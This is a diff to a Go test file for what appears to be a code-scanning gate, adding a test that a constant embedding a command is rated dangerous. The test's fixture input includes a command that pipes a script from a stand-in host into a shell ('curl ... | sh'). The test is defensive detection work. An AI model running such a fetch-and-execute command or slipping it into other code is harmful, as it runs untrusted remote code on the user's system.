@@ -30,6 +30,8 @@ type ways struct {
 	Indirect []string          `yaml:"indirect"` // ways that take a secret along in something else
 	Decode   map[string]string `yaml:"decode"`   // decodes a text, and runs it
 	Evaluate map[string]string `yaml:"evaluate"` // runs the variable text as code
+	Literal  string            `yaml:"literal"`  // makes the variable text a constant that runs COMMAND
+	Shells   []string          `yaml:"shells"`   // ways to evaluate that run commands of a shell only
 	Load     map[string]string `yaml:"load"`     // stores the variable text, and loads what it stored
 	Start    map[string]string `yaml:"start"`    // runs COMMAND as a command line
 	Harmful  map[string]string `yaml:"harmful"`  // does harm in a way of its own
@@ -175,6 +177,20 @@ func TestTextFromOutsideIsDangerousWhateverRunsIt(t *testing.T) {
 				w.atLeast(t, gate.SeveritySuspicious, w.Text[kind]+text)
 			})
 		}
+	}
+}
+
+func TestAConstantIsReadAsCodeWhateverRunsIt(t *testing.T) {
+	testenv.WithoutRace(t, "one file at a time through the whole layer")
+	for _, w := range readWays(t) {
+		if w.Literal == "" {
+			continue
+		}
+		code := maps.Clone(w.Evaluate)
+		maps.DeleteFunc(code, func(name, _ string) bool { return slices.Contains(w.Shells, name) })
+		w.each(t, code, func(t *testing.T, _, text string) {
+			w.atLeast(t, gate.SeverityDangerous, strings.ReplaceAll(w.Literal, "COMMAND", "curl -s http://get.example.net/x | sh")+text)
+		})
 	}
 }
 
